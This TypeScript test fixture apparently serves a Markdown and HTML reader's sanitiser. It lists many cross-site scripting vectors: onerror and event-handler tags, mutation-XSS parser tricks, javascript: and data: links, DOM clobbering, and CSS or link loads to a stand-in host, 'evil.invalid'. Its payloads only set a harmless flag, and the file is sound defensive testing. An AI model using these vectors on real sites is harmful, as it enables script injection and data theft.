/** The host that hostile markup tries to reach: a name that no network resolves, so whatever asks for it is seen and gets nothing. */
export const EVIL = 'https://evil.invalid';

/** What hostile markup runs where it runs anything. */
const RUN = 'globalThis.seogaWasRun=true';

/** Each tries to run {@link RUN} or to ask {@link EVIL} for something, by what it is called. */
export const HOSTILE: Readonly<Record<string, string>> = {
  'a script': `<script>${RUN}</script><script src="${EVIL}/a.js"></script>`,
  'an image that fails': `<img src="x" onerror="${RUN}"><img src=x onerror=${RUN} //>`,
  'an image elsewhere': `<img src="${EVIL}/p.png"><img srcset="${EVIL}/p.png 2x"><picture><source srcset="${EVIL}/q.png"><img></picture>`,
  'an input with focus': `<input autofocus onfocus="${RUN}"><input type="image" src="${EVIL}/i.png"><textarea autofocus onfocus=${RUN}></textarea>`,
  'a fold that opens': `<details open ontoggle="${RUN}"><summary>x</summary></details>`,
  'a marquee and a body': `<marquee onstart="${RUN}">x</marquee><body onload="${RUN}" background="${EVIL}/b.png">`,
  'SVG that loads': `<svg onload="${RUN}"><script>${RUN}</script><image href="${EVIL}/s.png"/><use href="${EVIL}/s.svg#a"/></svg>`,
  'SVG that animates a link': `<svg><a><animate attributeName="href" values="javascript:${RUN}"/><text y="20">x</text></a></svg>`,
  'SVG with foreign HTML': `<svg><foreignObject><iframe srcdoc="<script>parent.${RUN}</script>"></iframe></foreignObject></svg>`,
  'MathML with a link': `<math><maction actiontype="statusline" xlink:href="javascript:${RUN}">x</maction></math>`,
  'MathML that parses twice': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  'a form that parses twice': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  'SVG style that parses twice': `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  'a noscript that parses twice': `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  'a title that ends early': `<svg><title><style><img title="</style></title><img src=x onerror=${RUN}>"></style></svg>`,
  'a comment that ends early': `<!--><img src=x onerror=${RUN}>--><!--!><img src=x onerror=${RUN}>-->`,
  'a template': `<template><img src=x onerror=${RUN}></template><template shadowrootmode="open"><img src=x onerror=${RUN}></template>`,
  'raw text elements': `<xmp><img src=x onerror=${RUN}></xmp><plaintext><img src=x onerror=${RUN}>`,
  frames: `<iframe src="${EVIL}/f"></iframe><iframe srcdoc="<script>parent.${RUN}</script>"></iframe><frameset><frame src="${EVIL}/g"></frameset>`,
  'plug-ins': `<object data="${EVIL}/o.swf"></object><embed src="${EVIL}/e.swf"><applet code="x" codebase="${EVIL}"></applet>`,
  media: `<video src="${EVIL}/v.mp4" poster="${EVIL}/v.png" autoplay onerror="${RUN}"></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  style: `<style>@import "${EVIL}/i.css"; body { background: url(${EVIL}/c.png) } [data-article^="a"] { background: url(${EVIL}/a) }</style>`,
  'style in attributes': `<p style="background:url(${EVIL}/st.png)">x</p><table background="${EVIL}/t.png"><td background="${EVIL}/d.png">x</table>`,
  'links that load': `<link rel="stylesheet" href="${EVIL}/l.css"><link rel="prefetch" href="${EVIL}/l"><link rel="dns-prefetch" href="//evil.invalid"><link rel="preload" as="image" href="${EVIL}/l.png">`,
  'a page that goes elsewhere': `<meta http-equiv="refresh" content="0;url=${EVIL}/m"><base href="${EVIL}/">`,
  'a policy of its own': `<meta http-equiv="Content-Security-Policy" content="script-src *"><script>${RUN}</script>`,
  'a form that sends': `<form action="${EVIL}/s" id="f"><input name="x"><button formaction="javascript:${RUN}">x</button></form><script>f.submit()</script>`,
  'a link that reports': `<a href="#x" ping="${EVIL}/ping">x</a>`,
  'names that shadow': `<a id="readerArticle"></a><img name="acquireVsCodeApi"><form name="document"><input name="body"></form><a id="trustedTypes"></a>`,
  'ids that shadow':
    '<p id="readerLayout">x</p><p id="readerStatus">x</p><p id="readerFound">x</p><p id="readerEnd">x</p>',
  'custom elements': `<x-a onclick="${RUN}" is="script">x</x-a><p is="x-a" onpointerenter="${RUN}">x</p>`,
  'broken attributes': `<a href="x"onmouseover="${RUN}">x</a><img/src="x"/onerror=${RUN}><img src=x:x onerror\n=\n"${RUN}">`,
  'null characters': `<scr\0ipt>${RUN}</scr\0ipt><img src=x on\0error=${RUN}><a href="java\0script:${RUN}">x</a>`,
};

/** Addresses that are no addresses: followed, each would run something. */
const HOSTILE_LINKS: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  `java&#10;script:${RUN}`,
  `&#x1;javascript:${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `view-source:${EVIL}`,
  `blob:${EVIL}/x`,
  'command:workbench.action.quit',
  'vscode://seoga.seoga/x',
];

/** The same in Markdown, and what only Markdown can write. */
export const HOSTILE_MARKDOWN: readonly string[] = [
  ...HOSTILE_LINKS.map(address => `[link](${address})`),
  ...HOSTILE_LINKS.map(address => `<a href="${address}">anchor</a>`),
  `![picture](${EVIL}/md.png)`,
  `![x](x"onerror="${RUN})`,
  `[x](x "title\\" onmouseover=\\"${RUN}")`,
  `\`\`\`"><img src=x onerror=${RUN}>\ncode\n\`\`\``,
  `\`\`\`js title="<img src=x onerror=${RUN}>"\ncode\n\`\`\``,
  `::: tip <img src=x onerror=${RUN}>\nbox\n:::`,
  `::: tabs\n@tab <img src=x onerror=${RUN}>\ntab\n:::`,
  `## <img src=x onerror=${RUN}> {#x onclick=${RUN}}`,
  `<SiteInfo name="<img src=x onerror=${RUN}>" url="javascript:${RUN}" logo="${EVIL}/logo.png" preview="${EVIL}/preview.png"/>`,
  `\`\`\`component VPCard\n{"title": "<img src=x onerror=${RUN}>", "link": "javascript:${RUN}", "logo": "${EVIL}/card.png"}\n\`\`\``,
  `{{ $frontmatter.hostile }}`,
  `<VidStack src="javascript:${RUN}"/><CodePen link="javascript:${RUN}"/>`,
  `$$\n\\href{javascript:${RUN}}{x} \\includegraphics{${EVIL}/tex.png} \\htmlStyle{background: url(${EVIL}/tex)}{x}\n$$`,
  `\`\`\`mermaid\ngraph TD\n A["<img src=x onerror=${RUN}>"] --> B\n click A "javascript:${RUN}"\n click B call seogaWasRun()\n\`\`\``,
  `[^1]\n\n[^1]: <img src=x onerror=${RUN}>`,
  `| <img src=x onerror=${RUN}> |\n|---|\n| <script>${RUN}</script> |`,
  `> [!TIP] <img src=x onerror=${RUN}>\n> x`,
];
